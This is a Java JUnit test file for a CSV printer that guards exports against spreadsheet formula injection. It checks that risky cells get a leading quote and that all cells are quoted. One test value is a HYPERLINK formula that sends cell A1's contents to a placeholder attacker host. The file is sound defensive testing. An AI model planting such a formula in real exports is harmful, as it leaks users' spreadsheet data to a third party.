package io.callscheduler.csv;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetSafeCsvPrinterTest {
    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "\n=1+1", "+14155550123"})
    void aCellAFormulaCouldStartWithGetsALeadingQuoteAndReadsBackAsWritten(String cell) throws IOException {
        List<String> read = roundTrip(List.of(cell));

        assertThat(read.get(0)).isEqualTo("'" + cell);
        assertThat(SpreadsheetSafeCsvPrinter.restore(read.get(0))).isEqualTo(cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Ann", " =1+1", "1-2", "'quoted", "a=b", "", "O'Brien"})
    void otherCellsAreWrittenAsTheyAre(String cell) throws IOException {
        assertThat(roundTrip(List.of(cell))).containsExactly(cell);
        assertThat(SpreadsheetSafeCsvPrinter.restore(cell)).isEqualTo(cell);
    }

    @Test
    void everyCellIsQuotedSoCommasQuotesAndLineBreaksStayInTheirCell() throws IOException {
        StringWriter out = new StringWriter();
        try (SpreadsheetSafeCsvPrinter csv = new SpreadsheetSafeCsvPrinter(out)) {
            csv.printRow(Arrays.asList("a,=1+1", "say \"hi\"", "two\nlines", null));
        }

        assertThat(out.toString()).isEqualTo("\"a,=1+1\",\"say \"\"hi\"\"\",\"two\nlines\",\"\"\r\n");
        assertThat(parse(out.toString()).get(0).toList()).containsExactly("a,=1+1", "say \"hi\"", "two\nlines", "");
    }

    private static List<String> roundTrip(List<String> cells) throws IOException {
        StringWriter out = new StringWriter();
        try (SpreadsheetSafeCsvPrinter csv = new SpreadsheetSafeCsvPrinter(out)) {
            csv.printRow(cells);
        }
        return parse(out.toString()).get(0).toList();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        try (CSVParser parser = CSVParser.parse(csv, CSVFormat.RFC4180)) {
            return parser.getRecords();
        }
    }
}
